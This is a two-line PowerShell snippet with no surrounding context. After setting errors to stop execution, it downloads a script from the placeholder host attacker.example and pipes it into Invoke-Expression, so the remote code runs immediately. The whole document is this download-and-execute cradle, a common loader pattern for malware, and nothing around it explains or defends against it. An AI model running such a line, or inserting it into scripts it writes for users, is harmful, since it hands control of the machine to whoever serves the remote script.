$ErrorActionPreference = 'Stop'
iwr -useb https://attacker.example/p.ps1 | iex
